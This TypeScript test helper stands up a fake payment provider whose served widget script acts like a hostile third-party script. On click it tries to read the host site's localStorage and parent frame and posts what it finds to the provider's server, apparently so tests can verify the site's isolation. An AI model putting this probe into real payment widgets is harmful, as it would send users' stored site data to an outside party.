import { createHmac } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { MisbehavingServer } from './misbehaving-server.ts';
import { startMisbehavingServer } from './misbehaving-server.ts';

/** What the cashier's script found on the page that it ran on. */
export interface TillFindings {
  order: string;
  amount: string;
  currency: string;
  signature: string;
  /** The origin that the page says it has. */
  origin: string;
  /** What it read in the storage of the site; null where it is kept away from it. */
  storage: string | null;
  /** Whether it could reach the page around it. */
  reachedParent: boolean;
  /** Milliseconds from the script's start to the click on its button. */
  clickedAfterMs: number;
}

/** A provider whose script draws a cashier: a button that pays. */
export interface TillStandIn {
  url: string;
  /** What a server needs in its environment to offer it: method 1, by the name `till`. */
  env: Record<string, string>;
  server: MisbehavingServer;
  /** What was found by its script, for each click. */
  findings: TillFindings[];
  /** The server that it reports to; set before anybody pays. */
  reportTo: string;
  /** The script draws no button. */
  isBroken: boolean;
  close: () => Promise<void>;
}

const secret = 'what the till signs by';

export const tillSignature = (text: string) => createHmac('sha256', secret).update(text).digest('hex');

/** Its script, as a foreign one is: it looks for what it can get. */
const script = (url: string, isBroken: boolean) => `(() => {
  const { order, amount, currency, signature } = document.currentScript.dataset;
  const place = document.currentScript.parentElement;
  const startedAt = performance.now();
  const attempt = (act) => { try { return act() } catch { return null } };
  const button = document.createElement('button');
  button.className = 'till-button';
  button.textContent = 'Pay ' + amount + ' ' + currency;
  button.style.padding = '16px';
  button.addEventListener('click', async () => {
    const found = { order, amount, currency, signature, origin: self.origin,
      storage: attempt(() => JSON.stringify(localStorage)),
      reachedParent: attempt(() => parent.document.title) !== null && parent !== self,
      clickedAfterMs: performance.now() - startedAt };
    await fetch('${url}/pay', { method: 'POST', body: JSON.stringify(found) });
    place.textContent = 'Thank you: paid at the till';
  });
  ${isBroken ? '' : 'place.append(button);'}
})();`;

function describe(url: string) {
  const facts = { order: '{order_id}', amount: '{amount}', currency: '{currency}' };
  const scheme = { algorithm: 'sha256', kind: 'hmac' };
  return [
    {
      ...{ kind: 'widget', name: 'till', method: 1, label: 'Till', icon: 'card', unit: 'minor' },
      ...{ script: `${url}/cashier.js`, attributes: facts, button: '.till-button' },
      sign: { ...scheme, in: 'field', name: 'signature', over: '{order_id}{amount}{currency}' },
      webhook: {
        sign: { ...scheme, in: 'header', name: 'x-till', over: 'body' },
        ...{ order: 'order', amount: 'amount', currency: 'currency', status: 'state' },
        outcomes: { paid: ['captured'], failed: ['declined'] },
      },
    },
  ];
}

/** Starts it on a port of its own. */
export async function startTillStandIn(): Promise<TillStandIn> {
  const server = await startMisbehavingServer(({ path, body }, response) => {
    if (path === '/cashier.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(script(server.url, till.isBroken));
      return;
    }
    const found = JSON.parse(body) as TillFindings;
    till.findings.push(found);
    void report(found).then(() => response.writeHead(200, { 'access-control-allow-origin': '*' }).end());
  });

  async function report({ order, amount, currency }: TillFindings): Promise<void> {
    const body = JSON.stringify({ order, amount, currency, state: 'captured' });
    const headers = { 'content-type': 'application/json', 'x-till': tillSignature(body) };
    await fetch(`${till.reportTo}/api/transaction/update/till`, { method: 'POST', headers, body });
  }

  const folder = await mkdtemp(join(tmpdir(), 'till-'));
  const file = join(folder, 'payments.json');
  await writeFile(file, JSON.stringify(describe(server.url)));
  const till: TillStandIn = {
    ...{ url: server.url, server, findings: [], reportTo: '', isBroken: false },
    env: { PAYMENTS_FILE: file, PAYMENT_SECRET_TILL: secret, ALLOW_SIMULATED_MARKET: 'on' },
    async close() {
      await server.close();
      await rm(folder, { recursive: true, force: true });
    },
  };
  return till;
}
